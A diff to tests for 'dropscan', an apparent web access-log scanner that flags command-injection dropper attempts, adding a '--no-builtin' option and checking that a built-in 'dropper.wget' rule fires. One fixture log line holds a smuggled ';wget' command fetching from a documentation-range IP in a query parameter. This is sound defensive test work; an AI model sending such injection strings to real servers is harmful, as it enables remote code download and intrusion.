@@ -243,9 +243,12 @@ def test_a_good_foreign_pack_drives_scan_explain_and_test(tmp_path):
     pack = _pack(tmp_path, GOOD)
     log = tmp_path / "access.log"
     log.write_bytes(combined_line("/x?a=;foo") + combined_line("/x?c=;wget http://203.0.113.9/a"))
-    p = dropscan("scan", "-s", str(pack), str(log), "-f", "jsonl", "-j", "1")
+    p = dropscan("scan", "-s", str(pack), "--no-builtin", str(log), "-f", "jsonl", "-j", "1")
     assert p.returncode == 1 and [json.loads(x)["rule_ids"] for x in p.stdout.splitlines()] == [["my.rule"]]
-    p = dropscan("explain", "-s", str(pack), combined_line("/x?a=;foo").decode().strip())
+    # without --no-builtin the pack adds to the built-in one
+    p = dropscan("scan", "-s", str(pack), str(log), "-f", "jsonl", "-j", "1")
+    assert [json.loads(x)["rule_ids"][0] for x in p.stdout.splitlines()] == ["my.rule", "dropper.wget"]
+    p = dropscan("explain", "-s", str(pack), "--no-builtin", combined_line("/x?a=;foo").decode().strip())
     assert p.returncode == 1 and b"MATCH my.rule (high) on view url" in p.stdout
     p = dropscan("signatures", "test", str(pack))
     assert p.returncode == 0 and b"1 signatures, 2 examples, 0 example failure(s), 0 lint failure(s)" in p.stdout
@@ -260,7 +263,7 @@ def test_a_pattern_that_passes_the_static_lint_but_backtracks(tmp_path):
     log.write_bytes(combined_line("/x?a=;foo" + "a" * 60) * 3 + combined_line("/x?a=;fooab"))
     summary = tmp_path / "s.json"
     t0 = time.perf_counter()
-    p = dropscan("scan", "-s", str(pack), str(log), "-f", "jsonl", "-j", "1", "--summary", str(summary))
+    p = dropscan("scan", "-s", str(pack), "--no-builtin", str(log), "-f", "jsonl", "-j", "1", "--summary", str(summary))
     assert time.perf_counter() - t0 < 30
     assert p.returncode == 1 and [json.loads(x)["line_no"] for x in p.stdout.splitlines()] == [4]
     assert json.loads(summary.read_text())["totals"]["regex_timeouts"] == 3
